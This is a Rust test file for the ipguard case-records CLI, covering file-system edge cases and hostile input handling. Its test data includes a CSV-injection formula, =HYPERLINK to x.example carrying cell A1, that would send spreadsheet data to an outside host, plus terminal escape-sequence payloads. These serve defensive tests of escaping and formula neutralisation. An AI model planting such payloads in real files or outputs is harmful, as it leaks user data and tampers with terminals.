//! The edges of the file system and of hostile input (issue 10): paths that look like URIs,
//! outputs onto the database, symbolic links, partial files, permissions, CSV injection.

use crate::import::STATIONS;
use crate::workdir::Workdir;
use std::os::unix::fs::PermissionsExt;

const CASES: &str =
    "id,station,enterprise,received_on\nC-1,CQ-YZ-001,甲公司,2024-03-05\nC-2,CQ-YZ-001,乙公司,2024-04-05\n";

/// A database with two stations and two cases.
pub(crate) fn loaded() -> Workdir {
    let wd = Workdir::new();
    wd.write("stations.csv", STATIONS);
    wd.write("cases.csv", CASES);
    wd.ok(&["import", "stations", "stations.csv"]);
    wd.ok(&["import", "cases", "cases.csv"]);
    wd
}

fn mode(p: &std::path::Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[test]
fn export_to_a_file_is_new_private_and_refuses_to_overwrite_without_force() {
    let wd = loaded();
    wd.ok(&["export", "cases", "-o", "cases.out.csv"]);
    let out = wd.path().join("cases.out.csv");
    assert_eq!(mode(&out), 0o600);
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        wd.ok(&["export", "cases"])
    );
    std::fs::write(&out, "kept").unwrap();
    let err = wd.refused(&["export", "cases", "-o", "cases.out.csv"], 3);
    assert_eq!(
        err,
        "error: cases.out.csv already exists: give --force to replace it, or choose a new file name\n"
    );
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "kept");
    wd.ok(&["export", "cases", "-o", "cases.out.csv", "--force"]);
    assert!(std::fs::read_to_string(&out).unwrap().starts_with("id,station"));
    assert_eq!(mode(&out), 0o600);
    // --force needs -o.
    wd.fails(&["export", "cases", "--force"], 2);
    // No temporary file is left beside it.
    let names: Vec<String> = std::fs::read_dir(wd.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".tmp"))
        .collect();
    assert!(names.is_empty(), "{names:?}");
}

#[test]
fn a_failed_export_leaves_the_previous_file_in_place() {
    let wd = loaded();
    wd.write("cases.out.csv", "the good file\n");
    // Damage the stored rows so that reading them fails half way (written past the front door
    // on purpose).
    wd.sql("UPDATE cases SET received_on = 'garbage' WHERE id = 'C-2'");
    let out = wd.run(&["export", "cases", "-o", "cases.out.csv", "--force"]);
    assert_eq!(out.code, 5, "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(wd.path().join("cases.out.csv")).unwrap(),
        "the good file\n"
    );
    // A full disk: nothing replaces the file either.
    let full = wd.run(&["export", "cases", "-o", "/dev/full", "--force"]);
    assert_eq!(full.code, 3, "{}", full.stderr);
    assert_eq!(
        full.stderr,
        "error: /dev/full is not a regular file (a device or a pipe): give the path of a file\n"
    );
}

#[test]
fn outputs_never_follow_a_symbolic_link() {
    let wd = loaded();
    let private = wd.write("private.txt", "secret\n");
    std::os::unix::fs::symlink(&private, wd.path().join("out-link.csv")).unwrap();
    let err = wd.refused(&["export", "cases", "-o", "out-link.csv", "--force"], 3);
    assert_eq!(
        err,
        "error: out-link.csv is a symbolic link: ipguard does not write through links, give the path of a new file\n"
    );
    assert_eq!(std::fs::read_to_string(&private).unwrap(), "secret\n");
}

#[test]
fn exported_cells_cannot_run_as_formulas_and_round_trip() {
    let wd = Workdir::new();
    wd.write("stations.csv", STATIONS);
    wd.ok(&["import", "stations", "stations.csv"]);
    wd.write(
        "cases.csv",
        "id,station,enterprise,received_on,summary\n\
         C-1,CQ-YZ-001,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",2024-03-05,+1 call\n\
         C-2,CQ-YZ-001,@SUM(A1),2024-03-05,-minus\n\
         C-3,CQ-YZ-001,'=already quoted,2024-03-05,'plain\n\
         -4,CQ-YZ-001,''=two,2024-03-05,it's fine\n",
    );
    wd.ok(&["import", "cases", "cases.csv"]);
    assert_eq!(
        wd.query("SELECT enterprise FROM cases WHERE id = 'C-1'"),
        "=HYPERLINK(\"http://x.example/?\"&A1)"
    );
    assert_eq!(
        wd.query("SELECT enterprise FROM cases WHERE id = 'C-3'"),
        "=already quoted"
    );
    assert_eq!(wd.query("SELECT summary FROM cases WHERE id = 'C-3'"), "'plain");
    assert_eq!(wd.query("SELECT enterprise FROM cases WHERE id = '-4'"), "'=two");
    let first = wd.ok(&["export", "cases", "--bom"]);
    for line in [
        "'-4,CQ-YZ-001,''=two,",
        "C-1,CQ-YZ-001,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",",
        "C-2,CQ-YZ-001,'@SUM(A1),",
        "C-3,CQ-YZ-001,'=already quoted,",
    ] {
        assert!(first.contains(line), "{line}\n{first}");
    }
    assert!(
        first.contains(",'+1 call,") && first.contains(",'-minus,") && first.contains(",'plain,"),
        "{first}"
    );
    // Lists print the same cells.
    assert_eq!(
        wd.ok(&["case", "list", "--format", "csv"]),
        wd.ok(&["export", "cases"])
    );
    let b = Workdir::new();
    b.write("stations.csv", STATIONS);
    b.ok(&["import", "stations", "stations.csv"]);
    b.write("cases.csv", &first);
    b.ok(&["import", "cases", "cases.csv"]);
    assert_eq!(b.ok(&["export", "cases", "--bom"]), first);
}

#[test]
fn export_of_an_unknown_station_is_refused_like_every_list() {
    let wd = loaded();
    let err = wd.refused(&["export", "cases", "--station", "NOPE"], 3);
    let list = wd.refused(&["case", "list", "--station", "NOPE"], 3);
    assert_eq!(err, list);
    assert!(!wd.path().join("x.csv").exists());
    wd.refused(&["export", "cases", "--station", "NOPE", "-o", "x.csv"], 3);
    assert!(!wd.path().join("x.csv").exists());
}

/// A database with the two stations only.
pub(crate) fn stations() -> Workdir {
    let wd = Workdir::new();
    wd.write("stations.csv", STATIONS);
    wd.ok(&["import", "stations", "stations.csv"]);
    wd
}

#[test]
fn an_unclosed_quote_is_refused_at_its_line() {
    let wd = stations();
    wd.write(
        "q.csv",
        "id,station,enterprise,received_on,summary\n\
         C-1,CQ-YZ-001,甲公司,2024-03-05,\"this summary never closes\n\
         C-2,CQ-YZ-001,乙公司,2024-03-06,\n\
         C-3,CQ-YZ-001,丙公司,2024-03-07,\n",
    );
    let err = wd.refused(&["import", "cases", "q.csv"], 3);
    assert_eq!(
        err,
        "q.csv:2:summary: the quoted cell that starts here is never closed: add the closing quote `\"` (a quote inside a quoted cell is written twice, `\"\"`)\n"
    );
    // A quote inside a cell, after a quoted part or in an unquoted one.
    for (cell, line) in [("\"ab\"cd", 3), ("ab\"cd", 3)] {
        wd.write(
            "q.csv",
            format!(
                "id,station,enterprise,received_on\r\nC-1,CQ-YZ-001,甲公司,2024-03-05\r\nC-2,CQ-YZ-001,{cell},2024-03-06\r\n"
            ),
        );
        let err = wd.refused(&["import", "cases", "q.csv"], 3);
        assert_eq!(
            err,
            format!("q.csv:{line}:enterprise: a quote inside a cell: quote the whole cell and write each quote in it twice (`\"ab\"\"cd\"`)\n"),
            "{cell}"
        );
    }
    // In the header, the column is its position.
    wd.write("q.csv", "id,\"station,enterprise,received_on\n");
    let err = wd.refused(&["import", "cases", "q.csv"], 3);
    assert!(
        err.starts_with("q.csv:1:2: the quoted cell that starts here is never closed"),
        "{err}"
    );
}

#[test]
fn a_stray_byte_in_a_utf8_file_is_refused_not_reread_as_gb18030() {
    let wd = stations();
    let mut bytes = "id,station,enterprise,received_on,summary\n\
                     C-1,CQ-YZ-001,重庆测试科技有限公司,2024-03-05,重庆测试\n\
                     C-2,CQ-YZ-001,Caf"
        .as_bytes()
        .to_vec();
    bytes.push(0xE9);
    bytes.extend_from_slice("s 重庆,2024-03-06,\n".as_bytes());
    wd.write("latin.csv", &bytes);
    let err = wd.refused(&["import", "cases", "latin.csv"], 3);
    assert_eq!(
        err,
        "latin.csv:3:18: byte 0xE9 is not valid UTF-8: the file is UTF-8 elsewhere, so it is broken UTF-8 (a byte from another encoding, such as Latin-1): correct it and save the file as UTF-8; nothing was read\n"
    );
    // A file valid in neither encoding: refused at its first bad GB18030 byte.
    let (mut gb, _, _) =
        encoding_rs::GB18030.encode("id,station,enterprise,received_on\nC-1,CQ-YZ-001,重庆公司,2024-03-05\n");
    let mut gb = gb.to_mut().clone();
    gb.extend_from_slice(b"C-2,CQ-YZ-001,\xFF\xFF,2024-03-05\n");
    wd.write("gb.csv", &gb);
    let err = wd.refused(&["import", "cases", "gb.csv"], 3);
    assert_eq!(
        err,
        "gb.csv:3:15: 0xFF is not valid GB18030 and the file is not UTF-8 either: save it as UTF-8 (or as GB18030 from Excel); nothing was read\n"
    );
    assert_eq!(wd.query("SELECT count(*) FROM cases"), "0");
}

#[test]
fn a_pipe_or_fifo_is_read_like_stdin_and_devices_are_refused() {
    let wd = stations();
    wd.write("ok.csv", CASES);
    let fifo = wd.path().join("cases.fifo");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::write(fifo, CASES).unwrap())
    };
    let out = wd.run(&["import", "cases", "cases.fifo"]);
    writer.join().unwrap();
    assert_eq!(
        (out.code, out.stderr.as_str()),
        (0, "cases.fifo: 2 added, 0 updated, 0 unchanged\n")
    );
    let out = wd
        .cmd(&["import", "cases", "/dev/stdin", "--again"])
        .write_stdin(CASES)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "/dev/stdin: 0 added, 0 updated, 2 unchanged\n"
    );
    let err = wd.refused(&["import", "cases", "/dev/zero"], 1);
    assert_eq!(
        err,
        "error: cannot read /dev/zero: it is not a regular file or a pipe (a device): give a CSV file, or `-` for stdin\n"
    );
    // In a directory too: a FIFO is read, a directory of a kind's name is refused.
    std::fs::create_dir_all(wd.path().join("office/staff.csv")).unwrap();
    let err = wd.refused(&["import", "--dir", "office"], 1);
    assert_eq!(
        err,
        "error: cannot read office/staff.csv: it is not a regular file or a pipe (a directory): give a CSV file, or `-` for stdin\n"
    );
    std::fs::remove_dir(wd.path().join("office/staff.csv")).unwrap();
    let fifo = wd.path().join("office/cases.csv");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let writer = std::thread::spawn(move || std::fs::write(fifo, CASES.replace("甲公司", "甲")).unwrap());
    let out = wd.run(&["import", "--dir", "office"]);
    writer.join().unwrap();
    assert_eq!(
        (out.code, out.stderr.as_str()),
        (0, "office/cases.csv: 0 added, 1 updated, 1 unchanged\n")
    );
}

#[test]
fn endless_lines_and_records_are_refused_with_a_line() {
    let wd = stations();
    // A record far longer than its cells can hold: a missing quote, or not CSV at all.
    let mut text = String::from("id,station,enterprise,received_on\nC-1,CQ-YZ-001,甲公司,2024-03-05\nC-2,");
    text.push_str(&"x".repeat(400_000));
    wd.write("long.csv", &text);
    let err = wd.refused(&["import", "cases", "long.csv"], 3);
    assert_eq!(
        err,
        "long.csv:3:station: the record is longer than 320060 bytes, more than its cells can hold (at most 2000 characters each): is a quote missing?\n"
    );
    // Stdin without a line end is cut off while it is copied.
    let out = wd
        .cmd(&["import", "cases", "-"])
        .write_stdin(vec![0u8; (1 << 24) + (1 << 17)])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "error: stdin:1: the line is longer than 16777216 bytes without a line end: this is not a CSV file; nothing was read\n"
    );
}

#[test]
fn lines_of_a_cr_only_file_are_counted_as_it_has_them() {
    let wd = stations();
    wd.write(
        "cr.csv",
        "id,station,enterprise,received_on\rC-1,CQ-YZ-001,甲公司,2024-03-05\r\rC-2,CQ-YZ-001,乙公司,2024-13-05\rC-3,CQ-NOPE,丙公司,2024-03-05\r",
    );
    let err = wd.fails(&["import", "cases", "cr.csv"], 3);
    let lines: Vec<&str> = err.lines().map(|l| l.split(": ").next().unwrap()).collect();
    assert_eq!(lines, ["cr.csv:4:received_on", "cr.csv:5:station"], "{err}");
    // Mixed line ends and a multi-line cell.
    wd.write(
        "mix.csv",
        "id,station,enterprise,received_on,summary\r\nC-1,CQ-YZ-001,甲公司,2024-03-05,\"a\rb\r\nc\nd\"\nC-2,CQ-YZ-001,乙公司,2024-13-05,\r",
    );
    let err = wd.fails(&["import", "cases", "mix.csv"], 3);
    let lines: Vec<&str> = err.lines().map(|l| l.split(": ").next().unwrap()).collect();
    assert_eq!(lines, ["mix.csv:2:summary", "mix.csv:6:received_on"], "{err}");
}

#[test]
fn cells_reach_the_terminal_escaped_and_text_refuses_controls() {
    let wd = stations();
    wd.write(
        "esc.csv",
        "id,station,enterprise,received_on\nC-1,CQ-YZ-001,甲公司,\x1b]0;pwned\x07\x1b[2J2024\n",
    );
    let err = wd.refused(&["import", "cases", "esc.csv"], 3);
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
    assert!(
        err.starts_with("esc.csv:2:received_on: `\\x1B]0;pwned\\x07\\x1B[2J2024`"),
        "{err}"
    );
    wd.write("nul.csv", "id,sta\0tion,enterprise,received_on\n");
    let err = wd.fails(&["import", "cases", "nul.csv"], 3);
    assert!(
        err.starts_with("nul.csv:1:sta\\x00tion: unknown column `sta\\x00tion`"),
        "{err:?}"
    );
    assert!(!err.contains('\0'), "{err:?}");
    // VT, FF, NEL, U+2028 and a lone CR in text are refused, each on one line.
    for bad in ["a\x0bb", "a\x0cb", "a\u{85}b", "a\u{2028}b", "a\rb"] {
        wd.write(
            "t.csv",
            format!("id,station,enterprise,received_on\nC-1,CQ-YZ-001,\"{bad}\",2024-03-05\n"),
        );
        let err = wd.refused(&["import", "cases", "t.csv"], 3);
        assert!(
            err.starts_with("t.csv:2:enterprise: text contains the control character U+"),
            "{bad:?}: {err}"
        );
        let err = wd.refused(
            &[
                "case",
                "add",
                "--station",
                "CQ-YZ-001",
                "--enterprise",
                bad,
                "--received",
                "2024-03-05",
            ],
            2,
        );
        assert!(err.contains("control character"), "{err}");
    }
    // Excel's CRLF inside a cell is a line break.
    wd.write(
        "t.csv",
        "id,station,enterprise,received_on,summary\nC-1,CQ-YZ-001,甲,2024-03-05,\"one\r\ntwo\"\n",
    );
    wd.ok(&["import", "cases", "t.csv"]);
    assert_eq!(wd.query("SELECT summary FROM cases"), "one\ntwo");
    // A value written into the file by other means is shown escaped in tables.
    // Written past the front door on purpose: commands refuse control characters.
    wd.sql("UPDATE stations SET name = 'bad\r\x1b[2J' WHERE code = 'CQ-YZ-001'");
    let table = wd.ok(&["station", "list"]);
    assert!(
        table.contains("bad\\r\\x1B[2J") && !table.contains('\x1b') && !table.contains('\r'),
        "{table:?}"
    );
}

#[test]
fn a_huge_cell_is_quoted_short() {
    let wd = stations();
    let huge = "9".repeat(100_000);
    wd.write(
        "h.csv",
        format!("id,station,enterprise,received_on\nC-1,CQ-YZ-001,甲公司,{huge}\n"),
    );
    let err = wd.refused(&["import", "cases", "h.csv"], 3);
    assert!(err.len() < 300, "{} bytes: {}", err.len(), &err[..300]);
    assert!(err.contains(&format!("{}…", "9".repeat(60))), "{err}");
    // A huge header name too.
    wd.write(
        "h.csv",
        format!("id,station,enterprise,received_on,{}\n", "z".repeat(100_000)),
    );
    let err = wd.refused(&["import", "cases", "h.csv"], 3);
    assert!(err.len() < 600, "{} bytes", err.len());
    assert!(
        err.starts_with(&format!(
            "h.csv:1:{}…: unknown column `{}…`",
            "z".repeat(60),
            "z".repeat(60)
        )),
        "{err}"
    );
}

#[test]
fn generated_case_ids_never_collide_with_imported_ones() {
    let wd = Workdir::new();
    wd.write("stations.csv", STATIONS);
    wd.ok(&["import", "stations", "stations.csv"]);
    wd.write(
        "c.csv",
        "id,station,enterprise,received_on\nCQ-JB-002-2024-999999999999999999,CQ-JB-002,甲,2024-03-05\nCQ-JB-002-2023-9223372036854775807,CQ-JB-002,乙,2023-03-05\n",
    );
    wd.ok(&["import", "cases", "c.csv"]);
    let add = |received: &str| {
        wd.run(&[
            "case",
            "add",
            "--station",
            "CQ-JB-002",
            "--enterprise",
            "丙",
            "--received",
            received,
        ])
    };
    assert_eq!(add("2024-05-01").stdout, "CQ-JB-002-2024-1000000000000000000\n");
    assert_eq!(add("2024-05-02").stdout, "CQ-JB-002-2024-1000000000000000001\n");
    let full = add("2023-05-01");
    assert_eq!(full.code, 3);
    assert_eq!(
        full.stderr,
        "error: the case numbers of CQ-JB-002 in 2023 are used up (an imported id reaches 9223372036854775807): give the case an id with --id\n"
    );
}

#[test]
fn a_case_added_but_not_printed_is_still_a_success() {
    let wd = stations();
    let out = wd
        .std_cmd(&[
            "case",
            "add",
            "--station",
            "CQ-JB-002",
            "--enterprise",
            "甲",
            "--received",
            "2024-05-01",
        ])
        .stdout(std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "the case was written, but stdout could not take it (No space left on device (os error 28)): it is CQ-JB-002-2024-0001 (see `ipguard audit list`)\n"
    );
    assert_eq!(wd.query("SELECT count(*) FROM cases"), "1");
}

#[test]
fn stored_data_breaking_an_invariant_is_damage_never_a_panic() {
    let wd = stations();
    wd.ok(&[
        "case",
        "add",
        "--station",
        "CQ-JB-002",
        "--enterprise",
        "甲",
        "--received",
        "2024-05-01",
    ]);
    let long = "X".repeat(70_000);
    // Written past the front door on purpose (damage): an id longer than any command accepts.
    wd.sql(&format!("UPDATE cases SET id = '{long}'"));
    let out = wd.run(&["check"]);
    assert_eq!(out.code, 5, "{}", out.stdout);
    assert!(
        out.stdout.contains(
            "records: cases `XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX…`, id: id `"
        ),
        "{}",
        &out.stdout[..out.stdout.len().min(600)]
    );
    assert!(out.stdout.len() < 1000, "{}", out.stdout.len());
    let score = wd.run(&["score", "--all", "--period", "2024"]);
    assert_eq!(score.code, 5, "{}", score.stderr);
    assert!(
        score
            .stderr
            .starts_with("error: the database is damaged: a stored case id `XXXX"),
        "{}",
        score.stderr
    );
    assert!(!score.stderr.contains("panicked"));
}

#[test]
fn rubric_files_with_a_bom_load_and_endless_ones_are_refused() {
    let wd = Workdir::new();
    wd.create_db();
    let json = wd.ok(&["rubric", "export"]);
    wd.write("bom.json", format!("\u{feff}{json}"));
    let out = wd.run(&["rubric", "check", "bom.json"]);
    assert_eq!(
        (out.code, out.stderr.as_str()),
        (0, "bom.json: rubric `cq-2022` is valid\nits lowest grade, `fail`, fails a biennial assessment: with --confirm-revoke it revokes the station\n")
    );
    let err = wd.fails(&["rubric", "check", "/dev/urandom"], 1);
    assert_eq!(
        err,
        "error: cannot read the rubric file /dev/urandom: it is not a regular file or a pipe (a device): give a JSON file\n"
    );
    wd.write("big.json", vec![b' '; (4 << 20) + 1]);
    let err = wd.fails(&["rubric", "check", "big.json"], 3);
    assert_eq!(
        err,
        "error: rubric file big.json: more than 4194304 bytes, far more than a rubric holds: is it the right file?\n"
    );
}

#[test]
fn check_reports_an_invalid_rubric_in_force() {
    let wd = stations();
    let out = wd.ok(&["check"]);
    assert!(out.contains("\nrubric: ok (the built-in rubric)\n"), "{out}");
    // Written past the front door on purpose (damage): `rubric use` refuses this rubric.
    wd.sql("INSERT INTO settings (key, value) VALUES ('rubric', '{\"id\": 1}')");
    let out = wd.run(&["check"]);
    assert_eq!(out.code, 5, "{}", out.stdout);
    assert!(
        out.stdout
            .contains("\nrubric: the rubric stored in force is invalid ("),
        "{}",
        out.stdout
    );
}

/// The stations, and case C-1 received, accepted, closed and followed up once.
fn followed_up() -> Workdir {
    let wd = stations();
    wd.write(
        "c.csv",
        "id,station,enterprise,received_on,warning_level\nC-1,CQ-JB-002,甲,2024-03-05,red\n",
    );
    wd.ok(&["import", "cases", "c.csv"]);
    wd.ok(&["case", "accept", "C-1", "--on", "2024-03-06"]);
    wd.ok(&[
        "case",
        "close",
        "C-1",
        "--on",
        "2024-04-01",
        "--outcome",
        "guided",
        "--effective",
        "yes",
    ]);
    wd.ok(&["case", "follow-up", "C-1", "--on", "2024-05-01"]);
    wd.ok(&[
        "case",
        "note",
        "C-1",
        "--kind",
        "special_plan",
        "--on",
        "2024-03-07",
        "--text",
        "方案",
    ]);
    wd
}

#[test]
fn an_import_cannot_contradict_a_stored_timeline() {
    let wd = followed_up();
    wd.write("up.csv", "id,station,enterprise,received_on,accepted_on,closed_on,followup_on\nC-1,CQ-JB-002,甲,2024-03-05,,,\n");
    let err = wd.fails(&["import", "cases", "up.csv"], 3);
    assert_eq!(
        err,
        "up.csv:2:closed_on: closed_on is empty but case C-1 has a follow-up recorded on 2024-05-01: a followed-up case stays closed\n\
         up.csv:2:followup_on: followup_on is empty but case C-1 has a follow-up recorded on 2024-05-01\n"
    );
    // A file without followup_on that moves closed_on after it: named under closed_on, the
    // column the file has.
    wd.write(
        "up.csv",
        "id,station,enterprise,received_on,closed_on\nC-1,CQ-JB-002,甲,2024-03-05,2024-06-01\n",
    );
    let err = wd.refused(&["import", "cases", "up.csv"], 3);
    assert_eq!(
        err,
        "up.csv:2:closed_on: followup_on 2024-05-01 is before closed_on 2024-06-01\n"
    );
    wd.write(
        "up.csv",
        "id,station,enterprise,received_on,closed_on,followup_on\nC-1,CQ-JB-002,甲,2024-03-05,2024-06-01,2024-06-02\n",
    );
    let err = wd.fails(&["import", "cases", "up.csv"], 3);
    assert_eq!(
        err,
        "up.csv:2:closed_on: closed_on 2024-06-01 is after the follow-up recorded on 2024-05-01: a case is followed up after it is closed\n\
         up.csv:2:followup_on: followup_on 2024-06-02 is after the follow-up recorded on 2024-05-01: it is the date of the first follow-up\n"
    );
    wd.write(
        "up.csv",
        "id,station,enterprise,received_on,accepted_on,warning_level\nC-1,CQ-JB-002,甲,2024-03-08,2024-03-08,blue\n",
    );
    let err = wd.fails(&["import", "cases", "up.csv"], 3);
    assert_eq!(
        err,
        "up.csv:2:received_on: received_on 2024-03-08 is after the special_plan recorded on 2024-03-07: a case's timeline starts when it is received\n\
         up.csv:2:warning_level: case C-1 has a special-handling plan recorded on 2024-03-07: its warning level must stay red\n"
    );
    // A change that keeps the timeline is taken.
    wd.write(
        "up.csv",
        "id,station,enterprise,received_on,summary\nC-1,CQ-JB-002,甲,2024-03-05,摘要\n",
    );
    wd.ok(&["import", "cases", "up.csv"]);
    wd.ok(&["check"]);
    // A contradiction written outside ipguard: check reports it.
    // Written past the front door on purpose (damage): see above.
    wd.sql("UPDATE cases SET closed_on = NULL, followup_on = NULL, outcome = NULL, effective = NULL");
    let out = wd.run(&["check"]);
    assert_eq!(out.code, 5, "{}", out.stdout);
    assert!(
        out.stdout.contains(
            "records: case `C-1`: closed_on is empty but case C-1 has a follow-up recorded on 2024-05-01"
        ),
        "{}",
        out.stdout
    );
}

#[test]
fn head_counts_are_read_by_one_reader_everywhere() {
    let wd = Workdir::new();
    wd.write("stations.csv", STATIONS);
    wd.ok(&["import", "stations", "stations.csv"]);
    for (n, msg) in [
        ("+5", "`+5` is not a head-count: use a whole number, 0 or more"),
        ("4294967296", "`4294967296` is too large: at most 4294967295"),
    ] {
        wd.write(
            "a.csv",
            format!("station,kind,date,title,participants\nCQ-JB-002,training,2024-05-01,培训,{n}\n"),
        );
        let csv = wd.refused(&["import", "activities", "a.csv"], 3);
        assert_eq!(csv, format!("a.csv:2:participants: {msg}\n"));
        let cli = wd.refused(
            &[
                "activity",
                "add",
                "--station",
                "CQ-JB-002",
                "--kind",
                "training",
                "--on",
                "2024-05-01",
                "--title",
                "培训",
                "--participants",
                n,
            ],
            2,
        );
        assert!(cli.contains(msg), "{cli}");
    }
}
